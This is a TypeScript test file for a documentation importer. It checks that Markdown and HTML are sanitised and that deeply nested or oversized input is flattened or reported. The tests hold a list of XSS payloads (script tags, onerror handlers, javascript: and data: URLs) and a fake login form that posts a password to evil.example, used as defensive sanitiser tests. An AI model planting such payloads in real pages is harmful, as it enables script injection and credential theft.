// Documentation is written by many hands and fetched from sites: whatever is in it, what readers get is a small tree.
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { Article, articleLimits } from '@bilet/shared/article'
import type { Block } from '@bilet/shared/article'
import { createAddresses, nowhere } from './tree/addresses.ts'
import { toImportedArticle } from './tree/document.ts'
import { readPage } from './html/html.ts'
import { readMarkdown } from './markdown/markdown.ts'
import { articleOf, importFiles } from './test-import.ts'
import { growthOf, proportional } from '../../../test/support/growth.ts'

const depthOf = (blocks: readonly Block[]): number =>
  Math.max(
    0,
    ...blocks.map((block) => {
      if (block.type === 'list') return 1 + depthOf(block.items.flat())
      return block.type === 'quote' ? 1 + depthOf(block.children) : 1
    }),
  )

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">ссылка</a>',
  '<a href=" java\tscript:alert(1)">ссылка</a>',
  '<a href="data:text/html,<script>alert(1)</script>">ссылка</a>',
  '<a href="vbscript:alert(1)">ссылка</a>',
  '<a href="//evil.example/\u0000">ссылка</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="рисунок">',
  '<img src="javascript:alert(1)" alt="рисунок">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{background:url(//evil.example)}</style>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></table></mtext></math>',
  '<form action="//evil.example"><input name=password><button>Войти</button></form>',
  '<template><script>alert(1)</script></template>',
  '<object data="//evil.example/x.swf"></object>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

test.each(scripts)('%s does nothing, in Markdown and in HTML', async (hostile) => {
  for (const as of ['article.md', 'article.html']) {
    const text = JSON.stringify(await articleOf(`До.\n\n${hostile}\n\nПосле.`, { as }))
    expect(text).toContain('До.')
    expect(text).not.toMatch(/"(?:href|src)":"(?!https?:)|alert\(1\)|onerror|Войти/)
  }
})

test.each([
  '[раз](javascript:alert(1))',
  '![два](javascript:alert(1))',
  '[три][3]\n\n[3]: data:text/html,x',
  '<javascript:alert(1)>',
])('Markdown %s leads nowhere', async (hostile) => {
  expect(JSON.stringify(await articleOf(hostile))).not.toMatch(/"(?:href|src)"/)
})

const deep: [string, string, string][] = [
  ['quotes', 'article.md', `${'> '.repeat(5_000)}Дно`],
  ['lists', 'article.md', Array.from({ length: 400 }, (_, at) => `${' '.repeat(at * 2)}- шаг ${at}`).join('\n')],
  ['emphasis', 'article.md', `${'*а **б '.repeat(3_000)}Дно`],
  ['delimiters of two kinds', 'article.md', `${'**a_ '.repeat(20_000)}Дно`],
  ['links that are not closed', 'article.md', `${'[!include [a](b) '.repeat(3_000)}Дно`],
  ['tags that are not closed', 'article.md', `${'{% note %}\n\n'.repeat(1_000)}Дно`],
  ['shortcodes that are not closed', 'article.md', `${'{{< tabs '.repeat(20_000)}Дно`],
  ['components that are not closed', 'article.mdx', `${'<A b="'.repeat(20_000)}Дно`],
  [
    'backticks of many lengths',
    'article.md',
    `${Array.from({ length: 1_000 }, (_, at) => '`'.repeat(at + 1)).join(' ')} Дно`,
  ],
  [
    'indented blocks',
    'article.md',
    `${Array.from({ length: 300 }, (_, at) => `${' '.repeat(at * 4)}!!! note`).join('\n')}\n\nДно`,
  ],
  ['open brackets', 'article.md', `${'['.repeat(20_000)}Дно`],
  ['elements', 'article.html', `${'<div>'.repeat(1_000)}Дно`],
  ['quotes', 'article.html', `${'<blockquote>'.repeat(1_000)}Дно`],
  ['lists', 'article.html', `${'<ul><li>шаг '.repeat(500)}Дно`],
  ['marks', 'article.html', `${'<b><i>'.repeat(500)}Дно`],
  ['tables', 'article.html', `${'<table><tr><td>'.repeat(200)}Дно`],
]

test.each(deep)('%s nested without end in %s become a shallow tree in a few seconds', async (_, as, content) => {
  const article = await articleOf(content, { as })
  expect(depthOf(article.blocks)).toBeLessThanOrEqual(articleLimits.blockDepth)
  expect(JSON.stringify(article)).toMatch(/Дно|шаг 399/)
})

test.each(['`a', '``a`', '**a_', '*[', '[a](', '!!! a\n', ':::a\n:::\n', '{{< a >}}', '{% a %}', '<A b={c}>', '| a '])(
  '%j over and over costs in proportion to its length',
  (unit) => {
    const growth = growthOf((length) => readMarkdown(unit.repeat(length / unit.length)), 6_000)
    expect(growth).toBeLessThan(proportional)
  },
)

test('a page nested beyond reading is named and the rest goes on', async () => {
  const { report, troubles } = await importFiles({ 'deep.html': `${'<div>'.repeat(60_000)}Дно`, 'good.md': 'Текст' })
  expect(report).toMatchObject({ added: 1, failed: 1 })
  expect(troubles).toMatchObject([{ where: 'deep.html', reason: 'nested too deeply' }])
})

test('parts in parts by the thousand are named, not waited for', async () => {
  const content = ':::note\n'.repeat(3_000)
  const { report, troubles } = await importFiles({ 'deep.md': `${content}Дно`, 'good.md': 'Текст' })
  expect(report).toMatchObject({ added: 1, failed: 1 })
  expect(troubles).toMatchObject([{ where: 'deep.md', reason: 'nested too deeply' }])
})

test.each(['{% hint %}', '{% comment %}', '<Card>'])(
  '%s begun by the thousand and never ended leaves the words',
  async (tag) => {
    const article = await articleOf(`${tag.repeat(20_000)}Дно`)
    expect(depthOf(article.blocks)).toBeLessThanOrEqual(articleLimits.blockDepth)
    expect(JSON.stringify(article)).toContain('Дно')
  },
)

test('code keeps its letters, however many of them are marks elsewhere', async () => {
  const code = Array.from({ length: 1_200 }, (_, at) => `a_${at}[*] = \\x`).join('\n')
  const article = await articleOf(`Пример:\n\n\`\`\`js\n${code}\n\`\`\``)
  expect(article.blocks[1]).toEqual({ type: 'code', lang: 'js', text: code })
})

test('a file of many megabytes is named, not read', async () => {
  const { troubles } = await importFiles({ 'huge.md': 'а'.repeat(3_000_000), 'good.md': 'Текст' })
  expect(troubles).toMatchObject([{ where: 'huge.md', reason: 'larger than 2 MB' }])
})

test('an article of more blocks than readers take is named, not cut', async () => {
  const { troubles } = await importFiles({ 'many.md': 'Строка.\n\n'.repeat(6_000), 'good.md': 'Текст' })
  expect(troubles).toMatchObject([{ where: 'many.md', reason: 'blocks too_many' }])
})

const shred = fc.constantFrom(
  '<p>',
  '</p>',
  '<b>',
  '</i>',
  '<a href="x.md#y">',
  '</a>',
  '<table>',
  '<tr>',
  '<td>',
  '</table>',
  '<ul>',
  '<li>',
  '</ul>',
  '<pre>',
  '<h2 id=a>',
  '</h2>',
  '<img src=//a/b alt=c>',
  '<br>',
  '<blockquote>',
  '<svg>',
  '<select>',
  '<!--',
  '-->',
  '<',
  '&#0;',
  '# ',
  '> ',
  '- ',
  '1. ',
  '```',
  '|a|b|\n|-|-|\n',
  '**',
  '[',
  '](x)',
  '![',
  '\n',
  '\n\n',
  '    ',
  '[!NOTE]',
  '[!include ',
  '---\n',
  'слово ',
)
const soup = fc.array(fc.oneof(shred, fc.string({ maxLength: 5 })), { maxLength: 60 }).map((parts) => parts.join(''))
const addresses = createAddresses(nowhere, (url) => (url.pathname === '/x.md' ? 'x' : undefined))
const place = { id: 'soup', url: '', addresses, updatedAt: '2026-01-01T00:00:00Z' }

test('any soup of Markdown and HTML becomes a valid article', () => {
  fc.assert(
    fc.property(soup, (content) => {
      const pages = [readMarkdown(`\n${content}`), readPage(`<p>Слово</p>${content}`)]
      for (const page of pages) {
        const article = toImportedArticle({ ...place, hast: page?.hast ?? { type: 'root', children: [] } })
        expect(Article.safeParse(article).error).toBeUndefined()
      }
    }),
    { numRuns: 300 },
  )
})
